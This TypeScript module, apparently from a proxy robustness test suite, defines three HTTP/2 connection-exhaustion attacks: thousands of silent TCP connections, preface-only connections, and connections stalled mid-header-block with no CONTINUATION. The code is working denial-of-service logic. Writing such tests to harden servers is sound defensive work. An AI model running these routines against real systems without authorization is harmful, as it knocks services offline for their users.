/**
 * HTTP/2 connections that hold a slot and do nothing useful (RFC 9113 §3.4,
 * §4.3): silent TCP connections, connections that send the preface and then
 * nothing, and connections stalled inside a header block (HEADERS without
 * END_HEADERS, never a CONTINUATION).
 */
import { aborted, Tracker, type Attack, type AttackOutcome } from './kit.js';
import {
  clientPreface,
  frame,
  FRAME,
  grpcRequestBlock,
  newEncoder,
  UNARY_PATH,
  watch,
} from './h2-wire.js';

/** Silent connections (attacker + proxy stay under a 20,000-descriptor limit). */
export const SILENT_CONNECTIONS = 5000;
export const PREFACE_CONNECTIONS = 1000;
export const STALLED_CONNECTIONS = 1000;

export const silent: Attack = {
  id: 'h2-silent',
  family: 'grpc',
  summary: `${SILENT_CONNECTIONS} TCP connections that never send the preface`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    await tracker.openMany(SILENT_CONNECTIONS, signal, (socket) => watch(socket, tracker, false));
    await aborted(signal);
    return tracker.finish();
  },
};

export const prefaceOnly: Attack = {
  id: 'h2-preface-only',
  family: 'grpc',
  summary: `${PREFACE_CONNECTIONS} connections: client preface + SETTINGS, ACK the proxy's SETTINGS, then nothing (no stream)`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const preface = clientPreface();
    await tracker.openMany(PREFACE_CONNECTIONS, signal, (socket) => {
      watch(socket, tracker);
      socket.write(preface);
    });
    await aborted(signal);
    return tracker.finish();
  },
};

export const stalledHeaders: Attack = {
  id: 'h2-stalled-headers',
  family: 'grpc',
  summary: `${STALLED_CONNECTIONS} connections: preface, then HEADERS without END_HEADERS holding half a header block, never a CONTINUATION`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const preface = clientPreface();
    await tracker.openMany(STALLED_CONNECTIONS, signal, (socket) => {
      const watched = watch(socket, tracker);
      socket.write(preface);
      const block = grpcRequestBlock(newEncoder(), target.port, UNARY_PATH);
      const half = block.subarray(0, Math.max(1, block.length >> 1));
      // After the ACK of the proxy's SETTINGS: no frame may follow an open header block.
      void watched.settled.then(() => {
        if (socket.writable) socket.write(frame(FRAME.HEADERS, 0, 1, half));
      });
    });
    await aborted(signal);
    return tracker.finish();
  },
};

export const H2_CONNECTION_ATTACKS: readonly Attack[] = [silent, prefaceOnly, stalledHeaders];
